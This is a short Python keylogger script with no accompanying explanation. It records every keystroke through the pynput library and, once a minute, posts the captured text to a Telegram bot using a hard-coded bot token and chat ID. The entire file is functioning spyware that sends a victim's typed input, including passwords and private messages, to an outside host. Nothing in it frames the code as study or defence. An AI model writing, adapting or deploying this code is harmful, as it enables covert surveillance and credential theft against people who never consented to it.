import threading
import requests
from pynput import keyboard

TOKEN = '4464824835:AA5u6kXGGvAM0n-m4GqEHjycyocovY283i-'
CHAT_ID = '607293809'
buf = []


def on_press(key):
    try:
        buf.append(key.char)
    except AttributeError:
        buf.append(f'[{key.name}]')


def flush():
    if buf:
        requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': CHAT_ID, 'text': ''.join(buf)})
        buf.clear()
    threading.Timer(60, flush).start()


flush()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
